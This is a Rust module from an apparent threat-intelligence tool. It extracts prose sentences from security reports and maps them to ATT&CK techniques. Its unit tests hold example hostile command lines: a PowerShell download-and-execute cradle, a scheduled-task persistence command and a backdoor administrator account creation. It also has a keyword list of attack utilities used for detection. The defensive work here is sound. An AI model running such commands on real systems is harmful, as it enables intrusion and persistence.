//! Whole reports for the mapper: a report (plain text, markdown, HTML, or text extracted from a
//! PDF) turned into its prose sentences — markup removed, wrapped lines joined, lists, tables, code
//! and indicator lines left out — so each sentence can be mapped on its own.

/// Words a sentence needs to be mapped.
pub const MIN_WORDS: usize = 4;
/// Longest sentence kept whole, in words (longer runs are cut at this length).
pub const MAX_WORDS: usize = 120;
/// Sentences read from one document at most (a 5–20 page report has a few hundred).
pub const MAX_SENTENCES: usize = 5_000;

/// A technique found in a document.
#[derive(Debug, Clone, PartialEq)]
pub struct Found {
    /// Index into the model's techniques.
    pub technique: usize,
    /// Probability that the technique is one of the report's (see [`map_document`]).
    pub score: f64,
    /// Sentences (and technique-table rows) behind it ([`report_support`]): those that name it
    /// among their best candidates, or for a parent technique one of its sub-techniques.
    pub sentences: usize,
    /// The sentence (or row) that scored best.
    pub sentence: String,
}

/// What a report's sentences say for one technique, before the report calibration.
#[derive(Debug, Clone, PartialEq)]
pub struct Support {
    /// Index into the model's techniques.
    pub technique: usize,
    /// Probability that at least one of its sentences is a correct mention, were the sentences
    /// independent: `1 − Π(1 − p)`.
    pub any: f64,
    /// Sentences (and rows) behind it.
    pub sentences: usize,
    /// The best sentence's score.
    pub best: f64,
    /// That sentence (or row).
    pub sentence: String,
}

/// Candidates of a sentence that count as its report's evidence: its best ones…
pub const REPORT_CANDIDATES: usize = 3;
/// …with at least this score (the best one counts whatever its score). A sentence often describes
/// more than one technique: counting only its best one left a third of the labels of AnnoCTR's dev
/// reports without any evidence (README, "map_report").
pub const REPORT_FLOOR: f64 = 0.05;

/// The techniques a report's sentences support (in technique order), and how many units
/// (sentences and cited table rows) the report has. A prose sentence is evidence for its best
/// technique and for its next best ones scored at least [`REPORT_FLOOR`] (up to
/// [`REPORT_CANDIDATES`]), each with its score; a technique table's row for the techniques it
/// cites by id (scored by the model on the row). A sub-technique is evidence for its parent too
/// (it implies it). A unit counts once per technique, with its best score for it.
pub fn report_support(
    m: &super::Mapper,
    text: &str,
    s: &mut super::Scratch,
) -> (Vec<Support>, usize) {
    let mut support: std::collections::HashMap<usize, Support> = std::collections::HashMap::new();
    // One unit's evidence: technique → its best score in the unit.
    let mut evidence: Vec<(usize, f64)> = Vec::new();
    let units = report_units(text);
    for unit in &units {
        evidence.clear();
        let mut note = |technique: usize, p: f64| {
            // NaN and 0 are no evidence.
            if p.is_nan() || p <= 0.0 {
                return;
            }
            let p = p.min(1.0);
            for t in std::iter::once(technique).chain(m.model.parent_technique(technique)) {
                match evidence.iter_mut().find(|(e, _)| *e == t) {
                    Some((_, best)) => *best = best.max(p),
                    None => evidence.push((t, p)),
                }
            }
        };
        let text = match unit {
            Unit::Sentence(sentence) => {
                for (rank, r) in m.top_k(sentence, REPORT_CANDIDATES, s).iter().enumerate() {
                    if rank == 0 || r.score >= REPORT_FLOOR {
                        note(r.technique, r.score);
                    }
                }
                sentence
            }
            Unit::Cited(row) => {
                // One ranking of the row scores the techniques it cites (each is shortlisted, and
                // usually near the top); one ranked lower is scored alone, as the same ranking
                // would score it.
                let cited = m.model.cited_techniques(row);
                let ranked = m.top_k(row, cited.len() + REPORT_CANDIDATES, s);
                for t in cited {
                    let p = match ranked.iter().find(|r| r.technique == t) {
                        Some(r) => r.score,
                        None => m.model.technique_score(&m.vectors, row, t, s),
                    };
                    note(t, p);
                }
                row
            }
        };
        for &(t, p) in &evidence {
            let e = support.entry(t).or_insert_with(|| Support {
                technique: t,
                any: 0.0,
                sentences: 0,
                best: 0.0,
                sentence: String::new(),
            });
            e.any = 1.0 - (1.0 - e.any) * (1.0 - p);
            e.sentences += 1;
            if p > e.best {
                e.best = p;
                e.sentence = text.to_string();
            }
        }
    }
    // In technique order, so what is fitted on it (the report calibration) is the same every run.
    let mut support: Vec<Support> = support.into_values().collect();
    support.sort_unstable_by_key(|e| e.technique);
    (support, units.len())
}

/// Map a whole report ([`report_support`]). A technique's score is the probability that it is one
/// of the report's techniques: the report calibration ([`super::calibrate::ReportCalibration`]) of
/// its support, fitted on labelled reports, when the model has one; else `1 − Π(1 − p)` over its
/// sentences, which runs high (a report's sentences are not independent). The report has it when
/// that reaches the threshold (`threshold`, else the report calibration's, else the model's own).
/// Strongest first.
pub fn map_document(
    m: &super::Mapper,
    text: &str,
    threshold: Option<f64>,
    s: &mut super::Scratch,
) -> Vec<Found> {
    let (support, _) = report_support(m, text, s);
    let report = m.model.calibration.as_ref().and_then(|c| c.report);
    let threshold = threshold.unwrap_or_else(|| m.report_threshold());
    let mut found: Vec<Found> = support
        .into_iter()
        .map(|e| Found {
            technique: e.technique,
            score: report.map_or(e.any, |r| r.probability(e.any)),
            sentences: e.sentences,
            sentence: e.sentence,
        })
        .filter(|f| f.score >= threshold && f.score > 0.0)
        .collect();
    let techniques = &m.model.techniques;
    found.sort_by(|a, b| {
        b.score
            .total_cmp(&a.score)
            .then_with(|| techniques[a.technique].id.cmp(&techniques[b.technique].id))
    });
    found
}

/// Abbreviations whose period does not end a sentence (lower case, without the period).
const ABBREVIATIONS: &[&str] = &[
    "al", "approx", "cf", "co", "corp", "dept", "dr", "e.g", "eg", "esp", "etc", "fig", "figs",
    "i.e", "ie", "inc", "jr", "ltd", "mr", "mrs", "ms", "no", "nos", "p", "pp", "prof", "sr", "st",
    "u.k", "u.s", "v", "vol", "vs", "viz",
];

/// File extensions, so `cmd.exe` is not taken for a domain.
const FILE_EXTENSIONS: &[&str] = &[
    "bat", "bin", "cmd", "dat", "dll", "doc", "docm", "docx", "exe", "hta", "htm", "html", "ini",
    "jar", "js", "lnk", "log", "msi", "pdf", "php", "ps1", "py", "rar", "rtf", "scr", "sh", "so",
    "sys", "tmp", "txt", "vbs", "xls", "xlsm", "xlsx", "xml", "zip",
];

/// The prose sentences of `text`, in order.
pub fn prose_sentences(text: &str) -> Vec<String> {
    report_units(text)
        .into_iter()
        .filter_map(|u| match u {
            Unit::Sentence(s) => Some(s),
            Unit::Cited(_) => None,
        })
        .collect()
}

/// What the mapper reads of a report.
#[derive(Debug, Clone, PartialEq)]
pub enum Unit {
    /// A prose sentence, mapped by the model.
    Sentence(String),
    /// A table row citing ATT&CK technique ids (cells joined by spaces): it counts for the
    /// techniques it cites.
    Cited(String),
}

/// The prose sentences and technique-citing table rows of `text`, in order (at most
/// [`MAX_SENTENCES`]).
pub fn report_units(text: &str) -> Vec<Unit> {
    let plain = if looks_like_html(text) {
        html_to_text(text)
    } else {
        text.to_string()
    };
    let mut out = Vec::new();
    for block in blocks(&plain) {
        match block {
            Block::Prose(p) => {
                for s in split_sentences(&p) {
                    if out.len() >= MAX_SENTENCES {
                        return out;
                    }
                    if is_prose(&s) {
                        out.push(Unit::Sentence(s));
                    }
                }
            }
            Block::Cited(_) if out.len() >= MAX_SENTENCES => return out,
            Block::Cited(row) => out.push(Unit::Cited(row)),
        }
    }
    out
}

fn looks_like_html(text: &str) -> bool {
    let head: String = text
        .chars()
        .take(4096)
        .collect::<String>()
        .to_ascii_lowercase();
    [
        "<html",
        "<body",
        "<p>",
        "<p ",
        "<div",
        "<br",
        "<!doctype",
        "<li>",
        "<span",
        "<h1",
        "<h2",
    ]
    .iter()
    .any(|t| head.contains(t))
}

/// Text of an HTML page: scripts, styles and comments dropped, block elements as line breaks,
/// list items and table cells marked so they are not joined into prose, entities decoded.
fn html_to_text(html: &str) -> String {
    let mut out = String::with_capacity(html.len());
    let lower = html.to_ascii_lowercase();
    let mut i = 0;
    let bytes = html.as_bytes();
    while i < bytes.len() {
        if bytes[i] != b'<' {
            let next = html[i..].find('<').map_or(html.len(), |n| i + n);
            out.push_str(&decode_entities(&html[i..next]));
            i = next;
            continue;
        }
        if lower[i..].starts_with("<!--") {
            i = lower[i..].find("-->").map_or(html.len(), |n| i + n + 3);
            continue;
        }
        let end = html[i..].find('>').map_or(html.len(), |n| i + n + 1);
        let tag = lower[i + 1..end.saturating_sub(1).max(i + 1)]
            .trim_start_matches('/')
            .split(|c: char| c.is_whitespace() || c == '/' || c == '>')
            .next()
            .unwrap_or("")
            .to_string();
        let closing = lower[i + 1..].starts_with('/');
        i = end;
        match tag.as_str() {
            "script" | "style" | "noscript" | "template" if !closing => {
                let close = format!("</{tag}");
                i = lower[i..].find(&close).map_or(html.len(), |n| i + n);
            }
            "pre" if !closing => {
                // Code blocks are not prose.
                i = lower[i..].find("</pre").map_or(html.len(), |n| i + n);
            }
            "li" if !closing => out.push_str("\n- "),
            "td" | "th" if !closing => out.push_str(" | "),
            "tr" => out.push_str(" |\n"),
            "p" | "div" | "br" | "h1" | "h2" | "h3" | "h4" | "h5" | "h6" | "ul" | "ol"
            | "table" | "section" | "article" | "header" | "footer" | "blockquote" | "title"
            | "li" => out.push_str("\n\n"),
            _ => out.push(' '),
        }
    }
    out
}

fn decode_entities(s: &str) -> String {
    if !s.contains('&') {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(p) = rest.find('&') {
        out.push_str(&rest[..p]);
        rest = &rest[p..];
        let Some(semi) = rest
            .char_indices()
            .take(12)
            .find(|(_, c)| *c == ';')
            .map(|(n, _)| n)
        else {
            out.push('&');
            rest = &rest[1..];
            continue;
        };
        let name = &rest[1..semi];
        let ch = match name {
            "amp" => Some('&'),
            "lt" => Some('<'),
            "gt" => Some('>'),
            "quot" => Some('"'),
            "apos" => Some('\''),
            "nbsp" => Some(' '),
            "rsquo" | "lsquo" => Some('\''),
            "rdquo" | "ldquo" => Some('"'),
            "ndash" | "mdash" => Some('-'),
            n if n.starts_with("#x") || n.starts_with("#X") => u32::from_str_radix(&n[2..], 16)
                .ok()
                .and_then(char::from_u32),
            n if n.starts_with('#') => n[1..].parse().ok().and_then(char::from_u32),
            _ => None,
        };
        match ch {
            Some(c) => {
                out.push(c);
                rest = &rest[semi + 1..];
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

/// What a line of a document is.
#[derive(Debug, PartialEq)]
enum Line<'a> {
    Blank,
    /// Prose (a heading's marks removed); consecutive prose lines are one paragraph.
    Prose(&'a str),
    /// A list item: a unit of its own (lines after it that are not blank continue it).
    Item(&'a str),
    /// A heading: a unit of its own, never joined to what follows.
    Heading(&'a str),
    /// A table row that cites an ATT&CK technique id (a report's technique table): not prose, but
    /// a unit for the techniques it cites.
    Cited(&'a str),
    /// Code, other table rows, indicator lines, fences: never prose.
    Skip,
}

fn classify<'a>(line: &'a str, in_fence: &mut bool) -> Line<'a> {
    let t = line.trim();
    if t.starts_with("```") || t.starts_with("~~~") {
        *in_fence = !*in_fence;
        return Line::Skip;
    }
    if *in_fence {
        return Line::Skip;
    }
    if t.is_empty() {
        return Line::Blank;
    }
    // Table rows: a unit when they cite a technique, else skipped.
    if t.starts_with('|') || t.matches('|').count() >= 2 || t.matches('\t').count() >= 2 {
        return if super::text::cited_ids(t).next().is_some() {
            Line::Cited(t)
        } else {
            Line::Skip
        };
    }
    // Indented code (markdown).
    if line.starts_with("    ")
        && !line.trim_start().starts_with(['-', '*', '+'])
        && looks_like_code(t)
        || line.starts_with('\t') && looks_like_code(t)
    {
        return Line::Skip;
    }
    if is_indicator_line(t) {
        return Line::Skip;
    }
    let heading = t.trim_start_matches('#').trim_start_matches('>').trim();
    if t.starts_with('#') {
        return Line::Heading(heading);
    }
    let bullet = heading
        .strip_prefix("- ")
        .or_else(|| heading.strip_prefix("* "))
        .or_else(|| heading.strip_prefix("+ "))
        .or_else(|| heading.strip_prefix("• "))
        .or_else(|| {
            let digits = heading.find(|c: char| !c.is_ascii_digit()).unwrap_or(0);
            (digits > 0 && digits <= 3)
                .then(|| &heading[digits..])
                .and_then(|r| r.strip_prefix(". ").or_else(|| r.strip_prefix(") ")))
        });
    match bullet {
        Some(item) => Line::Item(item.trim()),
        None => Line::Prose(heading),
    }
}

fn looks_like_code(t: &str) -> bool {
    t.contains(['{', '}', ';', '=', '$', '\\']) || t.starts_with(['<', '/', '.'])
}

/// A line most of whose words are indicators (IPs, hashes, domains, URLs), e.g. an IOC list.
fn is_indicator_line(t: &str) -> bool {
    let words: Vec<&str> = t.split_whitespace().collect();
    if words.is_empty() {
        return false;
    }
    let iocs = words.iter().filter(|w| is_indicator(w)).count();
    iocs > 0 && iocs * 2 >= words.len()
}

fn is_indicator(w: &str) -> bool {
    let w = w.trim_matches(|c: char| matches!(c, ',' | ';' | '(' | ')' | '"' | '\'' | '`'));
    let hex = w.len() >= 32 && w.chars().all(|c| c.is_ascii_hexdigit());
    let url = w.contains("://") || w.starts_with("hxxp");
    let dotted = w.replace("[.]", ".");
    let ip = dotted.split('.').count() == 4
        && dotted
            .split('.')
            .all(|p| !p.is_empty() && p.len() <= 3 && p.chars().all(|c| c.is_ascii_digit()));
    let domain = dotted.contains('.')
        && !dotted.ends_with('.')
        && dotted.rsplit('.').next().is_some_and(|tld| {
            tld.len() >= 2
                && tld.chars().all(|c| c.is_ascii_alphabetic())
                && !FILE_EXTENSIONS.contains(&tld.to_ascii_lowercase().as_str())
        })
        && dotted
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
    hex || url || ip || domain
}

/// A block of a document: a paragraph, list item or heading (prose to split into sentences), or a
/// table row citing techniques.
#[derive(Debug, Clone, PartialEq)]
enum Block {
    Prose(String),
    Cited(String),
}

/// Paragraphs, list items and technique-citing table rows of plain or markdown text: wrapped lines
/// joined (a word hyphenated at a line end is rejoined), markdown emphasis, code spans and link
/// targets removed, table cells separated by spaces.
fn blocks(text: &str) -> Vec<Block> {
    let mut out = Vec::new();
    let mut para = String::new();
    let mut in_fence = false;
    let flush = |para: &mut String, out: &mut Vec<Block>| {
        if !para.trim().is_empty() {
            out.push(Block::Prose(strip_markdown(para.trim())));
        }
        para.clear();
    };
    for line in text.lines() {
        match classify(line, &mut in_fence) {
            Line::Blank | Line::Skip => flush(&mut para, &mut out),
            Line::Cited(row) => {
                flush(&mut para, &mut out);
                let cells: Vec<&str> = row
                    .split(['|', '\t'])
                    .map(str::trim)
                    .filter(|c| !c.is_empty())
                    .collect();
                out.push(Block::Cited(strip_markdown(&cells.join(" "))));
            }
            Line::Item(item) => {
                flush(&mut para, &mut out);
                para.push_str(item);
            }
            Line::Heading(h) => {
                flush(&mut para, &mut out);
                para.push_str(h);
                flush(&mut para, &mut out);
            }
            Line::Prose(p) => {
                if para.ends_with('-') && p.starts_with(|c: char| c.is_lowercase()) {
                    para.pop();
                } else if !para.is_empty() {
                    para.push(' ');
                }
                para.push_str(p);
            }
        }
    }
    flush(&mut para, &mut out);
    out
}

/// Markdown marks removed: `[text](target)` → text, emphasis and code-span marks dropped.
fn strip_markdown(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(open) = rest.find('[') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        match after.find("](") {
            Some(close) if !after[..close].contains('[') => {
                out.push_str(&after[..close]);
                let target = &after[close + 2..];
                rest = target.find(')').map_or("", |e| &target[e + 1..]);
            }
            _ => {
                out.push('[');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out.replace("**", "").replace("__", "").replace('`', "")
}

/// Split a paragraph at sentence ends: `.`, `!` or `?` (closing quotes and brackets kept) followed by
/// white space and a capital, digit or opening mark — not after an abbreviation or an initial, and
/// never inside a token (IP addresses, domains, file names and versions keep their dots).
fn split_sentences(para: &str) -> Vec<String> {
    let mut out = Vec::new();
    let words: Vec<&str> = para.split_whitespace().collect();
    let mut cur: Vec<&str> = Vec::new();
    for (i, w) in words.iter().enumerate() {
        cur.push(w);
        let next = words.get(i + 1);
        if cur.len() >= MAX_WORDS || next.is_some_and(|n| ends_sentence(w, n)) {
            out.push(cur.join(" "));
            cur.clear();
        }
    }
    if !cur.is_empty() {
        out.push(cur.join(" "));
    }
    out
}

fn ends_sentence(word: &str, next: &str) -> bool {
    let core = word.trim_end_matches(['"', '\'', ')', ']', '”', '’']);
    let Some(last) = core.chars().last() else {
        return false;
    };
    if !matches!(last, '.' | '!' | '?') {
        return false;
    }
    let starts_new = next
        .trim_start_matches(['"', '\'', '(', '[', '“', '‘'])
        .chars()
        .next()
        .is_some_and(|c| c.is_uppercase() || c.is_ascii_digit());
    if !starts_new {
        return false;
    }
    if last == '.' {
        let stem = core
            .trim_end_matches('.')
            .trim_start_matches(['(', '"', '\'']);
        let lower = stem.to_lowercase();
        // An initial ("J. Smith") or an abbreviation ("e.g. Emotet", "Fig. 3").
        if stem.chars().count() == 1 && stem.chars().all(char::is_alphabetic) {
            return false;
        }
        if ABBREVIATIONS.contains(&lower.as_str()) {
            return false;
        }
    }
    true
}

/// Whether a text reads as prose and not as a command line: what the score calibration was fitted on.
pub fn reads_as_prose(s: &str) -> bool {
    is_prose(s) && !looks_like_command(s)
}

/// Words a text needs to read as sentences whatever its first word (see [`looks_like_command`]).
const SENTENCE_WORDS: usize = 12;

/// A command line: it starts with a program (`powershell.exe`, `/bin/sh`, `cmd /c`) and does not
/// read as sentences, or many of its words are switches, paths or code. "PowerShell Execution.
/// PowerShell is a scripting environment …" (a detection's title and description) is prose: at
/// least [`SENTENCE_WORDS`] words, seven in ten of them plain words.
fn looks_like_command(s: &str) -> bool {
    let words: Vec<&str> = s.split_whitespace().collect();
    let Some(first) = words.first() else {
        return false;
    };
    let first = first
        .trim_matches(|c: char| matches!(c, '"' | '\'' | '`'))
        .to_ascii_lowercase();
    let program = [".exe", ".ps1", ".sh", ".bat", ".cmd", ".vbs", ".py"]
        .iter()
        .any(|e| first.ends_with(e))
        || first.starts_with('/')
        || first.contains('\\')
        || [
            "cmd",
            "powershell",
            "pwsh",
            "bash",
            "sh",
            "curl",
            "wget",
            "sudo",
            "reg",
            "schtasks",
            "wmic",
            "net",
            "certutil",
            "rundll32",
            "regsvr32",
            "mshta",
            "bitsadmin",
            "nc",
        ]
        .contains(&first.as_str());
    let code = words
        .iter()
        .filter(|w| {
            w.starts_with('-') && w.len() > 1
                || w.starts_with('/') && w.len() > 1
                || w.contains(['\\', '=', '(', ')', '{', '}', '$', '%', '|', ';', '<', '>'])
        })
        .count();
    program && !reads_as_sentences(&words) || code * 10 >= words.len() * 3
}

/// Whether `words` read as sentences: at least [`SENTENCE_WORDS`] of them, seven in ten plain
/// words (letters only, punctuation around them aside). Asked only of a text that starts with a
/// program, so other text does not pay for the pass.
fn reads_as_sentences(words: &[&str]) -> bool {
    if words.len() < SENTENCE_WORDS {
        return false;
    }
    let plain = words
        .iter()
        .filter(|w| {
            let w = w.trim_end_matches(['.', ',', ';', ':', '!', '?', '"', '\'', ')']);
            let w = w.trim_start_matches(['"', '\'', '(']);
            !w.is_empty() && w.chars().all(char::is_alphabetic)
        })
        .count();
    plain * 10 >= words.len() * 7
}

/// Whether a sentence reads as prose: enough words, most of them words rather than indicators,
/// numbers or symbols.
pub fn is_prose(s: &str) -> bool {
    let words: Vec<&str> = s.split_whitespace().collect();
    if words.len() < MIN_WORDS {
        return false;
    }
    let alpha = words
        .iter()
        .filter(|w| {
            let letters = w.chars().filter(|c| c.is_alphabetic()).count();
            letters * 2 > w.chars().count() && !is_indicator(w)
        })
        .count();
    alpha * 10 >= words.len() * 6 && alpha >= MIN_WORDS - 1
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn technique_table_rows_citing_ids_are_units() {
        let text = "Intro sentence about the actor and its tools.\n\n| Tactic | Technique |\n| --- | --- |\n| Execution | [T1059.001](https://attack.mitre.org/techniques/T1059/001/) PowerShell |\n| hash | 44d88612fea8a8f36de82e1278abb02f |\nThe actor then used T1003 against the domain controller.";
        assert_eq!(
            report_units(text),
            [
                Unit::Sentence("Intro sentence about the actor and its tools.".into()),
                Unit::Cited("Execution T1059.001 PowerShell".into()),
                Unit::Sentence("The actor then used T1003 against the domain controller.".into()),
            ]
        );
        // The sentences alone (the workbench's view) leave the row out.
        assert_eq!(prose_sentences(text).len(), 2);
    }

    #[test]
    fn abbreviations_and_dotted_tokens_do_not_split() {
        let s = prose_sentences(
            "The actor, e.g. APT29, contacted 192.168.10.5 and update.evil-domain.com over HTTPS. \
             It then ran cmd.exe via rundll32.exe (see Fig. 3 for details). Version 2.1.4 was used by Mr. Smith's team.",
        );
        assert_eq!(s.len(), 3, "{s:#?}");
        assert!(s[0].ends_with("over HTTPS."));
        assert!(s[1].contains("Fig. 3"));
        assert!(s[2].starts_with("Version 2.1.4"));
    }

    #[test]
    fn wrapped_pdf_lines_are_joined_and_hyphens_rejoined() {
        let s = prose_sentences(
            "The malware establishes persis-\ntence through a scheduled\ntask named Updater. It also\nlogs keystrokes.\n\nPage 4\n",
        );
        assert_eq!(
            s,
            vec![
                "The malware establishes persistence through a scheduled task named Updater.",
                "It also logs keystrokes."
            ]
        );
    }

    #[test]
    fn lists_tables_code_and_iocs_are_not_prose() {
        let text = "Indicators of compromise are listed below.\n\n\
            - 45.77.12.9\n- bad-domain[.]example[.]com\n- d41d8cd98f00b204e9800998ecf8427e\n\
            - The loader injects its payload into explorer.exe to evade defences.\n\n\
            | Technique | ID |\n|---|---|\n| Phishing | T1566 |\n\n\
            ```\npowershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x')\n```\n\
            1. The attackers dump credentials from LSASS memory.\n2. They move laterally over SMB.\n";
        let s = prose_sentences(text);
        assert_eq!(
            s,
            vec![
                "Indicators of compromise are listed below.",
                "The loader injects its payload into explorer.exe to evade defences.",
                "The attackers dump credentials from LSASS memory.",
                "They move laterally over SMB.",
            ]
        );
    }

    #[test]
    fn html_markup_is_removed_and_scripts_dropped() {
        let html = "<html><head><title>Report</title><script>var a = 'The attackers used PowerShell.';</script></head>\
            <body><h1>Campaign</h1><p>The attackers sent <b>spearphishing</b> emails with malicious attachments. \
            The payload &amp; its loader were signed.</p><ul><li>evil.example.com</li></ul>\
            <pre>net user /add backdoor</pre><p>They used <a href=\"https://x\">WMI</a> for execution &#8212; remotely.</p></body></html>";
        let s = prose_sentences(html);
        assert_eq!(
            s,
            vec![
                "The attackers sent spearphishing emails with malicious attachments.",
                "The payload & its loader were signed.",
                "They used WMI for execution \u{2014} remotely.",
            ],
        );
    }

    #[test]
    fn markdown_links_and_emphasis_are_unwrapped() {
        let s = prose_sentences(
            "## Execution\nThe group relies on **[PowerShell](https://attack.mitre.org/techniques/T1059/001)** \
             and `cmd.exe` to run commands.",
        );
        assert_eq!(
            s,
            vec!["The group relies on PowerShell and cmd.exe to run commands."]
        );
    }

    #[test]
    fn command_lines_are_not_prose() {
        assert!(!reads_as_prose(
            "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\""
        ));
        assert!(!reads_as_prose(
            "schtasks /create /sc onlogon /tn Updater /tr C:\\Users\\Public\\a.exe"
        ));
        assert!(reads_as_prose(
            "The attackers dumped credentials from LSASS process memory (with Mimikatz)."
        ));
        // A long command line of plain words after the program is still one.
        assert!(!reads_as_prose(
            "cmd.exe /c net user backdoor Passw0rd /add && net localgroup administrators backdoor /add && whoami"
        ));
        // A detection's title naming the tool, then its description: prose.
        assert!(reads_as_prose(
            "Powershell Disable Security Monitoring. The following analytic identifies attempts to disable Windows Defender real-time behavior monitoring via PowerShell commands."
        ));
        assert!(reads_as_prose(
            "Reg.exe called from Command Shell. Registry modifications are often essential in establishing persistence via known Windows mechanisms."
        ));
    }

    #[test]
    fn hostile_input_is_bounded() {
        let long = "word ".repeat(1_000_000);
        let s = prose_sentences(&long);
        assert!(s.iter().all(|x| x.split_whitespace().count() <= MAX_WORDS));
        assert!(s.len() <= MAX_SENTENCES);
        assert!(prose_sentences("<<<>>>&#xFFFFFFFF;&#99999999999;<script").is_empty());
        assert!(prose_sentences("").is_empty());
        // Technique-table rows count towards the bound too, before and after prose.
        let rows = "| T1059 | Command and Scripting Interpreter |\n".repeat(MAX_SENTENCES + 10);
        let text = format!("{rows}\nThe actor then dumped credentials from memory.\n\n{rows}");
        let units = report_units(&text);
        assert_eq!(units.len(), MAX_SENTENCES);
        assert!(units.iter().all(|u| matches!(u, Unit::Cited(_))));
    }
}
